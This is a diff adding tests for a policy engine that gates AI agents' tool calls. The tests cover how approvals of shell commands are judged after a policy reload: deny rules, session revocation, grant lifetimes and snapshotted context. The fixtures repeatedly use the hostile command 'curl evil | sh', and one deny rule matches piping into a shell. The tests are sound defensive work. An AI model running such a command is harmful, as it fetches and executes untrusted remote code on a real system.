@@ -2,7 +2,7 @@ import { describe, expect, it } from "vitest";
 import { loadBundle } from "../../src/bundle/loadBundle.js";
 import { createBundle, serializeBundle } from "../../src/bundle/writeBundle.js";
 import { compile, compileSources } from "../../src/compile/compile.js";
-import type { Engine } from "../../src/runtime/engine.js";
+import { Engine } from "../../src/runtime/engine.js";
 import { explain } from "../../src/runtime/explain.js";
 
 /**
@@ -258,5 +258,287 @@ describe("engines of policy sets whose generated code is the same text", () => {
       const after = loadBundle(JSON.parse(serializeBundle(createBundle(compileSources(sources(second!)).policy!, sources(second!)))), { sessionsFrom: before });
       expect(after.decide({ ...request, session: "t" }).decision, `${second} after ${first}`).toBe(expected[second!]);
     }
+  });
+});
+
+describe("approving, after a reload, a call asked about before it: the policy in force decides whether it may go ahead", () => {
+  // The ask offers shell for 60s on approval; `session.labels contains secret` is session state.
+  const SHELL_DECLS = `enum Label { public, secret }\ncontext { labels: set<Label> }\ntool fs.read { risk low returns secret args { path: string } }\ntool shell.exec { risk high args { command: string } }\n`;
+  const ASKS = `  @name("read") allow fs.read\n  @name("sh") ask shell.exec reason "shell needs a person"\n  @name("sh-ok") allow shell.exec grant "shell" for 60s\n`;
+  const shellPolicy = (rules: string, decls = SHELL_DECLS): { path: string; text: string }[] => [{ path: "p.policy", text: `${decls}policy p {\n${rules}}\n` }];
+  const exec = (s: string, command = "curl evil | sh"): Record<string, unknown> => call(s, "shell.exec", { command });
+  const read = (s: string): Record<string, unknown> => call(s, "fs.read", { path: "/etc/secret" });
+  const withLabels = (request: Record<string, unknown>, labels: string[]): Record<string, unknown> => ({ ...request, context: { labels } });
+  const NO_SECRET_SHELL = `  @name("no-secret-shell") deny shell.exec when context.labels contains secret reason "no secret into a shell"\n`;
+  const GIVES_LESS = 'the policy was reloaded since session "t" was asked about this shell.exec call, and the policy in force gives less on approval than the ask offered ("shell" for 60s; it gives "shell" for 10s), and the enforcement point mints the ask\'s grantsOnApproval: the approval cannot be taken, nor any of this call while that ask awaits (the engine cannot tell which of the call\'s asks an approval answers)';
+  const compileAsked = (labels: string[]): Engine => {
+    const engine = compile(shellPolicy(ASKS), { clock });
+    expect(engine.decide(withLabels(exec("t"), labels)).decision).toBe("ask");
+    return engine;
+  };
+  const reloadedTo = (rules: string, decls?: string): { old: Engine; reloaded: Engine } => {
+    const old = compile(shellPolicy(ASKS), { clock });
+    expect(old.decide(exec("t"))).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell", ttlSeconds: 60 }] });
+    return { old, reloaded: compile(shellPolicy(rules, decls), { clock, sessionsFrom: old }) };
+  };
+
+  it("a deny now refuses the approval, naming the rule and the reload, and changes nothing; the old engine passes it on and refuses too", () => {
+    const { old, reloaded } = reloadedTo(`  @name("no-shell") deny shell.exec reason "no shell during the incident"\n`);
+    const refusal = 'the policy was reloaded since session "t" was asked about this shell.exec call, and the policy in force denies it now (no-shell: no shell during the incident): the approval cannot be taken';
+    expect(reloaded.approvalRefusal(exec("t"))).toBe(refusal);
+    expect(reloaded.approved(exec("t"))).toBe(false);
+    expect(old.approved(exec("t"))).toBe(false);
+    // Nothing changed: the same refusal, the session not revoked.
+    expect(reloaded.approvalRefusal(exec("t"))).toBe(refusal);
+    expect(reloaded.decide(read("t")).decision).toBe("deny"); // no rule allows fs.read now; not revoked
+    expect(reloaded.decide(read("t")).revoked).toBe(false);
+  });
+
+  it("a deny … revoke now refuses the approval and, approved, revokes the session as the rule does; approvalRefusal says so and changes nothing", () => {
+    const { reloaded } = reloadedTo(`${ASKS}  @name("kill-shell") deny shell.exec when args.command like "*| sh*" reason "piping into a shell" revoke\n`);
+    expect(reloaded.approvalRefusal(exec("t"))).toBe('the policy was reloaded since session "t" was asked about this shell.exec call, and the policy in force denies it now (kill-shell: piping into a shell): the approval cannot be taken; approving it revokes the session (kill-shell revokes)');
+    expect(reloaded.decide(read("t")).decision).toBe("allow"); // approvalRefusal revoked nothing
+    expect(reloaded.approved(exec("t"))).toBe(false);
+    expect(reloaded.decide(read("t"))).toMatchObject({ decision: "deny", rules: ["kill-shell"], revoked: true });
+    expect(reloaded.approvalRefusal(exec("t"))).toMatch(/^session "t" is revoked \(by kill-shell \(p\.policy:\d+:\d+\): piping into a shell\), so no ask of it can be approved/);
+  });
+
+  it("no rule that allows or asks now, or the tool gone, refuses it too", () => {
+    const { reloaded } = reloadedTo(`  @name("read") allow fs.read\n`);
+    expect(reloaded.approvalRefusal(exec("t"))).toBe('the policy was reloaded since session "t" was asked about this shell.exec call, and the policy in force denies it now (no rule allows shell.exec): the approval cannot be taken');
+    const gone = reloadedTo(`  @name("read") allow fs.read\n`, SHELL_DECLS.replace(/tool shell\.exec.*\n/, ""));
+    expect(gone.reloaded.approved(exec("t"))).toBe(false);
+    expect(gone.reloaded.approvalRefusal(exec("t"))).toBe('the policy was reloaded since session "t" was asked about shell.exec, and the policy in force refuses the call: unknown tool "shell.exec": the policy set declares no such tool; the approval cannot be taken');
+    // A call of a tool no ask awaits says what it said before.
+    expect(gone.reloaded.approvalRefusal(call("t", "shell.run", {}))).toBe('unknown tool "shell.run": the policy set declares no such tool');
+  });
+
+  it("an approval the ask offered more grants for than the policy in force gives is refused; as many or more, or an allow now, is taken", () => {
+    const shorter = reloadedTo(ASKS.replace("60s", "10s"));
+    expect(shorter.reloaded.approvalRefusal(exec("t"))).toBe(GIVES_LESS);
+    expect(shorter.reloaded.approved(exec("t"))).toBe(false);
+    expect(reloadedTo(ASKS.replace(' grant "shell" for 60s', "")).reloaded.approvalRefusal(exec("t"))).toMatch(/gives less on approval than the ask offered \("shell" for 60s; it gives none\)/);
+    const longer = reloadedTo(ASKS.replace('"shell" for 60s', '"shell", "audit" for 2m'));
+    expect(longer.reloaded.approved(exec("t"))).toBe(true);
+    expect(longer.reloaded.approved(exec("t"))).toBe(false); // once
+    expect(reloadedTo(`  @name("sh-ok") allow shell.exec grant "shell" for 60s\n`).reloaded.approved(exec("t"))).toBe(true);
+  });
+
+  it("an ask made before the reload stays judged until approved: asked again under the policy in force, the call's approvals are still refused (the old ask's grants could be minted)", () => {
+    const { reloaded } = reloadedTo(ASKS.replace("60s", "10s"));
+    expect(reloaded.decide(exec("t"))).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell", ttlSeconds: 10 }] });
+    expect(reloaded.approvalRefusal(exec("t"))).toBe(GIVES_LESS);
+    expect(reloaded.approved(exec("t"))).toBe(false);
+    expect(reloaded.approved(exec("t"))).toBe(false);
+    // A call asked only under the policy in force is approvable as ever.
+    expect(reloaded.decide(exec("t", "ls"))).toMatchObject({ decision: "ask" });
+    expect(reloaded.approved(exec("t", "ls"))).toBe(true);
+  });
+
+  it("an ask with data the policy in force denies is not approved after the call is asked again without it", () => {
+    const old = compile(shellPolicy(ASKS), { clock });
+    expect(old.decide(withLabels(exec("t"), ["secret"])).decision).toBe("ask");
+    const reloaded = compile(shellPolicy(ASKS + NO_SECRET_SHELL), { clock, sessionsFrom: old });
+    expect(reloaded.decide(exec("t")).decision).toBe("ask");
+    for (const approval of [withLabels(exec("t"), ["secret"]), exec("t")]) {
+      expect(reloaded.approvalRefusal(approval)).toMatch(/^the policy was reloaded since session "t" was asked about this shell\.exec call, and the policy in force denies it now \(no-secret-shell: no secret into a shell\)/);
+      expect(reloaded.approved(approval)).toBe(false);
+    }
+  });
+
+  it("policies are compared by content: asks made under a same-policy reload join the asks of that policy, and a later reload judges them all", () => {
+    const AUDIT = `  @name("audited") allow shell.exec when context.labels contains public grant "audit" for 1h\n`;
+    const first = compile(shellPolicy(ASKS + AUDIT), { clock });
+    expect(first.decide(withLabels(exec("t"), ["public"]))).toMatchObject({ grantsOnApproval: [{ scope: "shell" }, { scope: "audit" }] });
+    const same = compile(shellPolicy(ASKS + AUDIT), { clock, sessionsFrom: first });
+    expect(same.decide(exec("t"))).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell", ttlSeconds: 60 }] });
+    const changed = compile(shellPolicy(ASKS), { clock, sessionsFrom: same });
+    expect(changed.approvalRefusal(withLabels(exec("t"), ["public"]))).toMatch(/gives less on approval than the ask offered \("audit" for 3600s; it gives "shell" for 60s\)/);
+    expect(changed.approved(withLabels(exec("t"), ["public"]))).toBe(false);
+    expect(changed.approved(exec("t"))).toBe(false);
+  });
+
+  it("asks under several policies are all kept: each approval takes the oldest, and judges the ones left", () => {
+    const old = compile(shellPolicy(ASKS), { clock });
+    expect(old.decide(exec("t")).decision).toBe("ask");
+    const longer = compile(shellPolicy(ASKS.replace("60s", "2m")), { clock, sessionsFrom: old });
+    expect(longer.decide(exec("t"))).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell", ttlSeconds: 120 }] });
+    const back = compile(shellPolicy(ASKS), { clock, sessionsFrom: longer });
+    // The 2m ask awaits: refused under a policy giving 60s, however often asked again.
+    expect(back.decide(exec("t")).decision).toBe("ask");
+    expect(back.approvalRefusal(exec("t"))).toMatch(/\("shell" for 120s; it gives "shell" for 60s\)/);
+    const longerAgain = compile(shellPolicy(ASKS.replace("60s", "2m")), { clock, sessionsFrom: back });
+    expect([longerAgain.approved(exec("t")), longerAgain.approved(exec("t")), longerAgain.approved(exec("t")), longerAgain.approved(exec("t"))]).toEqual([true, true, true, false]);
+  });
+
+  it("the policy in force judges the call as it was asked: its labels (whatever the approval leaves out) and its user (not the approver's)", () => {
+    const old = compile(shellPolicy(ASKS), { clock });
+    expect(old.decide(withLabels(exec("t"), ["secret"])).decision).toBe("ask");
+    const reloaded = compile(shellPolicy(ASKS + NO_SECRET_SHELL), { clock, sessionsFrom: old });
+    expect(reloaded.approvalRefusal(exec("t"))).toMatch(/denies it now \(no-secret-shell: no secret into a shell\)/);
+    expect(reloaded.approved(exec("t"))).toBe(false);
+    // A deny … revoke revokes as it would for the call as asked.
+    const revoking = compile(shellPolicy(ASKS + NO_SECRET_SHELL.replace("a shell\"", 'a shell" revoke')), { clock, sessionsFrom: compileAsked(["secret"]) });
+    expect(revoking.approvalRefusal(exec("t"))).toMatch(/approving it revokes the session \(no-secret-shell revokes\)$/);
+    expect(revoking.approved(exec("t"))).toBe(false);
+    expect(revoking.decide(read("t"))).toMatchObject({ decision: "deny", revoked: true, rules: ["no-secret-shell"] });
+    // The approval's labels count too (they join the session with the call).
+    const clean = compile(shellPolicy(ASKS + NO_SECRET_SHELL), { clock, sessionsFrom: compileAsked([]) });
+    expect(clean.approvalRefusal(withLabels(exec("t"), ["secret"]))).toMatch(/no-secret-shell/);
+    expect(clean.approved(exec("t"))).toBe(true);
+
+    const USER = `${SHELL_DECLS}user { role: string }\n`;
+    const byContractor = compile(shellPolicy(ASKS, USER), { clock });
+    expect(byContractor.decide({ ...exec("t"), user: { role: "contractor" } }).decision).toBe("ask");
+    const noContractors = compile(shellPolicy(`${ASKS}  @name("no-contractor-shell") deny shell.exec when user.role == "contractor" revoke\n`, USER), { clock, sessionsFrom: byContractor });
+    const byManager = { ...exec("t"), user: { role: "manager" } };
+    expect(noContractors.approvalRefusal(byManager)).toMatch(/denies it now \(no-contractor-shell: .*\): the approval cannot be taken; approving it revokes the session/);
+    expect(noContractors.approved(byManager)).toBe(false);
+    expect(noContractors.decide({ ...read("t"), user: { role: "manager" } }).revoked).toBe(true);
+  });
+
+  it("asks are kept within bounds: equal callers are one, past 8 callers of a call an approval after a reload is refused, and past 4 policies asks under later ones are merged with the newest older entry and judged together", () => {
+    const USER = `${SHELL_DECLS}user { role: string }\n`;
+    const old = compile(shellPolicy(ASKS, USER), { clock });
+    // The same caller sends fresh objects each time: one caller.
+    for (let i = 0; i < 20; i++) expect(old.decide({ ...exec("same"), user: { role: "dev" } }).decision).toBe("ask");
+    for (let i = 0; i < 9; i++) expect(old.decide({ ...exec("many"), user: { role: `r${i}` } }).decision).toBe("ask");
+    const reloaded = compile(shellPolicy(ASKS.replace("60s", "2m"), USER), { clock, sessionsFrom: old });
+    expect(reloaded.approved({ ...exec("same"), user: { role: "dev" } })).toBe(true);
+    expect(reloaded.approvalRefusal(exec("many"))).toBe('the policy was reloaded since session "many" was asked about this shell.exec call, and it was asked by more callers (other user, agent or context.labels) than the engine keeps for one call (8), so the policy in force cannot judge each ask: the approval cannot be taken');
+
+    let engine = compile(shellPolicy(ASKS), { clock });
+    engine.decide(exec("p"));
+    for (let seconds = 61; seconds <= 66; seconds++) {
+      engine = compile(shellPolicy(ASKS.replace("60s", `${seconds}s`)), { clock, sessionsFrom: engine });
+      expect(engine.decide(exec("p")).decision).toBe("ask");
+    }
+    // Seven asks under seven policies: the three oldest kept apart, the newest (64s to 66s) merged into one entry, which still offers 64s.
+    const shorter = compile(shellPolicy(ASKS.replace("60s", "63s")), { clock, sessionsFrom: engine });
+    expect(shorter.approvalRefusal(exec("p"))).toMatch(/gives less on approval than the ask offered \("shell" for 6[456]s; it gives "shell" for 63s\)/);
+    const longest = compile(shellPolicy(ASKS.replace("60s", "66s")), { clock, sessionsFrom: shorter });
+    expect(Array.from({ length: 8 }, () => longest.approved(exec("p")))).toEqual([true, true, true, true, true, true, true, false]);
+  });
+
+  it("an approval invalid by its own fault says so as without a reload; one the reload made invalid says the policy was reloaded", () => {
+    const { reloaded } = reloadedTo(`${ASKS}  @name("extra") deny fs.read when args.path == "/x"\n`);
+    expect(reloaded.approvalRefusal(call("t", "shell.exec", { command: 5 }))).toBe("request.args.command must be a string, not the number 5");
+    expect(reloaded.approvalRefusal({ ...exec("t"), intent: "x" })).not.toMatch(/reloaded/);
+    const retyped = reloadedTo(ASKS, SHELL_DECLS.replace("command: string", "command: int"));
+    expect(retyped.reloaded.approvalRefusal(exec("t"))).toMatch(/^the policy was reloaded since session "t" was asked about shell\.exec, and the policy in force refuses the call: request\.args\.command must be/);
+  });
+
+  it("a call asked twice before the reload, offered other grants each time, is measured by all it was offered", () => {
+    const old = compile(shellPolicy(`${ASKS}  @name("audited") allow shell.exec when context.labels contains public grant "audit" for 60s\n`), { clock });
+    expect(old.decide(exec("t")).decision).toBe("ask");
+    expect(old.decide({ ...exec("t"), context: { labels: ["public"] } })).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell" }, { scope: "audit" }] });
+    const reloaded = compile(shellPolicy(ASKS), { clock, sessionsFrom: old });
+    expect(reloaded.approvalRefusal(exec("t"))).toMatch(/gives less on approval than the ask offered \("audit" for 60s; it gives "shell" for 60s\)/);
+  });
+
+  it("a deny that matches through session state since the ask refuses it under a changed policy; a reload of the same policy changes nothing (as no reload would)", () => {
+    const TAINT = `  @name("no-shell-after-secret") deny shell.exec when session.labels contains secret reason "secret read"\n`;
+    // (Another reason is another policy: rules whose wording changed may have changed in meaning too.)
+    for (const [rulesBefore, rulesAfter, taken] of [
+      [ASKS + TAINT, ASKS + TAINT, true],
+      [ASKS + TAINT.replace("secret read", "secret was read"), ASKS + TAINT, false],
+    ] as const) {
+      const old = compile(shellPolicy(rulesBefore), { clock });
+      expect(old.decide(exec("t")).decision).toBe("ask");
+      expect(old.decide(read("t")).decision).toBe("allow"); // the session holds secret now
+      const reloaded = compile(shellPolicy(rulesAfter), { clock, sessionsFrom: old });
+      expect(reloaded.approved(exec("t")), rulesAfter === rulesBefore ? "same policy" : "changed").toBe(taken);
+      if (!taken) expect(reloaded.approvalRefusal(exec("t"))).toMatch(/denies it now \(no-shell-after-secret: secret read\)/);
+    }
+  });
+});
+
+describe("after a reload, an ask is judged as it was asked: copies of its user, agent and context taken at the ask", () => {
+  const DECLS_ENV = `enum Label { public, secret }\ncontext { labels: set<Label>, env: string }\nuser { role: string }\ntool shell.exec { risk high args { command: string } }\n`;
+  const ASK_SHELL = `  @name("sh") ask shell.exec reason "shell needs a person"\n  @name("sh-ok") allow shell.exec grant "shell" for 60s\n`;
+  const policyOf = (rules: string, decls = DECLS_ENV): { path: string; text: string }[] => [{ path: "p.policy", text: `${decls}policy p {\n${rules}}\n` }];
+  const shell = (s: string, user: unknown, context: unknown): Record<string, unknown> => ({ session: s, tool: "shell.exec", args: { command: "curl evil | sh" }, user, context, time: new Date(T0 + ++minute * 60_000).toISOString() });
+  const DENIES = `  @name("no-secret-shell") deny shell.exec when context.labels contains secret revoke\n  @name("no-contractor-shell") deny shell.exec when user.role == "contractor" revoke\n  @name("freeze-prod") deny shell.exec when context.env == "prod" revoke\n`;
+
+  it("an enforcement point that updates its user and context objects in place after the ask changes nothing of how the ask is judged", () => {
+    for (const change of ["labels", "user", "env"] as const) {
+      const old = compile(policyOf(ASK_SHELL), { clock });
+      const user = { role: change === "user" ? "contractor" : "dev" };
+      const context = { labels: change === "labels" ? ["secret"] : [], env: change === "env" ? "prod" : "dev" };
+      expect(old.decide(shell("t", user, context)).decision).toBe("ask");
+      // The next step: labels reset, the user promoted, another environment, all in place.
+      context.labels.length = 0;
+      user.role = "manager";
+      context.env = "dev";
+      const reloaded = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: old });
+      const approval = shell("t", { role: "manager" }, { labels: [], env: "dev" });
+      expect(reloaded.approvalRefusal(approval), change).toMatch(/denies it now \((no-secret-shell|no-contractor-shell|freeze-prod): .*\): the approval cannot be taken; approving it revokes the session/);
+      expect(reloaded.approved(approval), change).toBe(false);
+    }
+  });
+
+  it("the asked context is judged as a whole: an approval sent with other context fields does not pass a deny on the asked ones (its labels join)", () => {
+    const old = compile(policyOf(ASK_SHELL), { clock });
+    expect(old.decide(shell("t", { role: "dev" }, { labels: [], env: "prod" })).decision).toBe("ask");
+    const frozen = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: old });
+    expect(frozen.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toMatch(/denies it now \(freeze-prod: /);
+    const clean = compile(policyOf(ASK_SHELL), { clock });
+    expect(clean.decide(shell("c", { role: "dev" }, { labels: [], env: "dev" })).decision).toBe("ask");
+    const reloaded = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: clean });
+    expect(reloaded.approvalRefusal(shell("c", { role: "dev" }, { labels: ["secret"], env: "dev" }))).toMatch(/no-secret-shell/);
+    expect(reloaded.approved(shell("c", { role: "dev" }, { labels: [], env: "prod" }))).toBe(true);
+  });
+
+  it("callers are compared by what the asking policy declares and labels each once: repeated labels or undeclared user fields make no other caller", () => {
+    const old = compile(policyOf(ASK_SHELL), { clock });
+    for (let i = 1; i <= 12; i++) expect(old.decide(shell("t", { role: "dev", seen: i }, { labels: Array.from({ length: i }, () => "public"), env: "dev" })).decision).toBe("ask");
+    const reloaded = compile(policyOf(ASK_SHELL.replace("60s", "2m")), { clock, sessionsFrom: old });
+    expect(reloaded.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
+  });
+
+  it("asked data too large to keep, or that throws on reading when copied, is not kept: an approval after a reload is refused, saying so; data that throws only later is not read again", () => {
+    const UNDECLARED = DECLS_ENV.replace("set<Label>", "set<string>");
+    const old = compile(policyOf(ASK_SHELL, UNDECLARED), { clock });
+    expect(old.decide(shell("t", { role: "dev" }, { labels: Array.from({ length: 2_000 }, (_, i) => `label-${i}`), env: "dev" })).decision).toBe("ask");
+    const reloaded = compile(policyOf(ASK_SHELL, UNDECLARED), { clock, sessionsFrom: old });
+    // (ASK_SHELL compiled again: alike, not judged again; a changed policy judges it.)
+    expect(reloaded.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
+    const changed = compile(policyOf(ASK_SHELL.replace("60s", "2m"), UNDECLARED), { clock, sessionsFrom: compile(policyOf(ASK_SHELL, UNDECLARED), { clock }) });
+    expect(changed.decide(shell("u", { role: "dev" }, { labels: Array.from({ length: 2_000 }, (_, i) => `label-${i}`), env: "dev" })).decision).toBe("ask");
+    const again = compile(policyOf(ASK_SHELL, UNDECLARED), { clock, sessionsFrom: changed });
+    expect(again.approvalRefusal(shell("u", { role: "dev" }, { labels: [], env: "dev" }))).toBe('the policy was reloaded since session "u" was asked about this shell.exec call, and the asked request\'s user, agent or context could not be kept when it was asked (its context.labels are more than a session keeps (4096 characters)), so the policy in force cannot judge that ask: the approval cannot be taken');
+
+    // A getter that throws once the ask is answered: the copy was taken at the ask.
+    let broken = false;
+    const user = { get role(): string { if (broken) throw new Error("boom"); return "dev"; } };
+    const asked = compile(policyOf(ASK_SHELL), { clock });
+    expect(asked.decide(shell("g", user, { labels: [], env: "dev" })).decision).toBe("ask");
+    broken = true;
+    const after = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: asked });
+    expect(after.approvalRefusal(shell("g", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
+  });
+
+  it("a reload to a policy whose code changed compares no more than the code on the first approval (no whole-policy fingerprint)", () => {
+    const before = compileSources(policyOf(ASK_SHELL)).policy!;
+    const after = compileSources(policyOf(ASK_SHELL + DENIES.split("\n")[2]! + "\n")).policy!;
+    expect(after.code).not.toBe(before.code);
+    const old = new Engine(before, { clock });
+    expect(old.decide(shell("t", { role: "dev" }, { labels: [], env: "dev" })).decision).toBe("ask");
+    let rulesRead = 0;
+    const counted = (policy: typeof before): typeof before => new Proxy(policy, { get: (target, name, receiver) => (name === "rules" && rulesRead++, Reflect.get(target, name, receiver)) });
+    const reloaded = new Engine(counted(after), { clock, sessionsFrom: old });
+    rulesRead = 0;
+    expect(reloaded.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
+    expect(rulesRead).toBe(0);
+  });
+});
+
+describe("refusing an approval in a revoked session", () => {
+  it("says the session is revoked and by which rule, not only that rule's reason (which names the call that revoked it)", () => {
+    const engine = compile([{ path: "p.policy", text: `tool crm.lookup { risk low args { id: string } }\ntool kb.search { risk low args { query: string } }\npolicy p {\n  ask crm.lookup\n  allow kb.search\n  @name("rv") deny kb.search when args.query == "rv" revoke\n}\n` }], { clock });
+    expect(engine.decide(call("s1", "crm.lookup", { id: "1" })).decision).toBe("ask");
+    expect(engine.decide(call("s1", "kb.search", { query: "rv" })).revoked).toBe(true);
+    expect(engine.approved(call("s1", "crm.lookup", { id: "1" }))).toBe(false);
+    expect(engine.approvalRefusal(call("s1", "crm.lookup", { id: "1" }))).toBe('session "s1" is revoked (by rv (p.policy:6:15): kb.search is denied by rv), so no ask of it can be approved: every later attempt in it is denied');
   });
 });
